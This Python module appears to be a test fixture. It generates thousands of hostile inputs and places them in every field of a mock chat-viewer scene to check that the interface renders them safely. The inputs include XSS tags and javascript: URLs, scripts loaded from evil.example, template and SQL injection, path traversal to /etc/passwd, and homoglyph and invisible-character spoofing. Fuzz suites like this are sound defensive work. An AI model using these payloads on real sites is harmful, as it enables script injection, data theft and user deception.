"""Texts that want to run, fetch, deceive or break out; and a chat that has them in every field."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from itertools import product
from typing import Any, Final

from tests.gallery.answers import NOW, Json, entry, listing, overview, summary, transcript
from tests.gallery.played import Scene

CALL: Final = "top.pwned=window.pwned=1"
ELSEWHERE: Final = "https://evil.example"
TAGS: Final = (
    "img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "object data=x",
    "input autofocus", "details open", "marquee", "select autofocus", "style", "math", "form",
    "template", "dialog open", "embed src=x", "link rel=stylesheet href=x", "base href=x", "x-y",
)  # fmt: skip
EVENTS: Final = (
    "onerror", "onload", "onfocus", "onbegin", "ontoggle", "onstart", "onclick", "onmouseover",
    "onanimationstart", "onpointerenter", "onpageshow", "onbeforetoggle",
)  # fmt: skip
FRAMES: Final = (
    "{}", '">{}', "'>{}", "-->{}", "</script>{}", "</textarea>{}", "]]>{}", "</title>{}",
)  # fmt: skip
SCHEMES: Final = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,", "blob:", "file:///",
    "filesystem:", "view-source:", "jav&#x0A;ascript:", "//evil.example/", "\\\\evil.example\\",
    "https:evil.example/", "https://a:b@evil.example/", "http://evil.example:80\\@ok.example/",
    "HTTPS://EVIL.EXAMPLE/", "https://xn--80ak6aa92e.example/", "https://аррӏе.example/",
)  # fmt: skip
LEADS: Final = (
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "[x](",
    "<",
    "url(",
    "href=",
    "@import ",
)
INVISIBLE: Final = (
    *map(chr, range(0x200B, 0x2010)), *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2060, 0x2070)), "\u00ad", "\u061c", "\u180e", "\ufeff", "\U000e0041",
    *map(chr, (0, 1, 7, 8, 11, 12, 27, 127, 0x85, 0x2028, 0x2029)),
)  # fmt: skip
TEMPLATES: Final = (
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('pwned=1')()}}",
    "__proto__", "constructor", "toString", "%00", "%s%n", "$&$1", "' OR 1=1--", "../../etc/passwd",
)  # fmt: skip
FACES: Final = ("👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇰🇩🇰", "👍🏿", "1️⃣", "🧑🏽‍🚀", "☠︎", "🫱🏻‍🫲🏿")


def payloads() -> list[str]:
    """More than two thousand, no two the same."""
    made = [*_markup(), *_addresses(), *_deceptions(), *TEMPLATES]
    return list(dict.fromkeys(made))


def _markup() -> Iterator[str]:
    for frame, (tag, event) in product(FRAMES, product(TAGS, EVENTS)):
        name = tag.split(" ", maxsplit=1)[0]
        yield frame.format(f"<{tag} {event}={CALL}>{name}</{name}>")
    yield f"<script>{CALL}</script>"
    yield f"<script src={ELSEWHERE}/x.js></script>"
    yield f"<img src={ELSEWHERE}/x.png><style>@import url({ELSEWHERE}/x.css)</style>"
    yield f"<svg><script>{CALL}</script></svg><math><mi//xlink:href='javascript:{CALL}'>"


def _addresses() -> Iterator[str]:
    for lead, scheme in product(LEADS, SCHEMES):
        yield f"{lead}{scheme}{CALL}//?q='\"><b>"


def _deceptions() -> Iterator[str]:
    for sign in INVISIBLE:
        yield f"pay{sign}pal.example {sign * 40}gpj.exe{sign}"
    for face in FACES:
        yield face * 60
        yield f"{face}\u200d" * 30
    for mark in range(0x300, 0x330):
        yield "".join(letter + chr(mark) * 30 for letter in "zalgo")


def scene(texts: list[str]) -> Scene:
    """All of them in the list; every tenth as a message with choices and a file, as
    a name and in the quiet lines."""
    fours = [texts[n : n + 4] for n in range(0, len(texts) - 3, 4)]
    chats = [
        summary(
            number % 9, id=f"<img src=x onerror={CALL}>{number}", preview=preview, agents=[agent],
            department=department, started_at=None, started_raw=raw,
        )
        for number, (preview, agent, department, raw) in enumerate(fours)
    ]  # fmt: skip
    entries = [part for n, text in enumerate(texts[::10]) for part in _entries(n, text)]
    strange = transcript(chats[0], entries, tags=texts[::40], comment="x" * 9000, agents=texts[:40])
    seen = [summary(1), summary(5)]
    return Scene(
        list=listing(chats), transcripts={chats[0]["id"]: strange}, overview=overview(seen)
    )


def endless(text: str) -> Scene:
    """A chat with one message."""
    chat = summary(1)
    return Scene(
        list=listing([chat]),
        transcripts={chat["id"]: transcript(chat, [entry(NOW, text=text)])},
        overview=overview([chat]),
    )


def _entries(number: int, text: str) -> Iterator[Json]:
    at = NOW + timedelta(seconds=number)
    who: dict[str, Any] = {
        "name": text,
        "role": ("visitor", "agent", "trigger", "unknown")[number % 4],
    }
    file = {"name": text, "url": text, "mime_type": text, "size": 3, "deleted": False}
    yield entry(at, sender=who, text=text, options=[text], file=file)
    kind = ("tags", "rating", "comment", "transfer", "system", "unknown", "join")[number % 7]
    yield entry(
        at, kind, sender=who, text=text, tags_added=[text], tags_removed=[text], rating="bad",
        department=text, at_raw=text,
    )  # fmt: skip
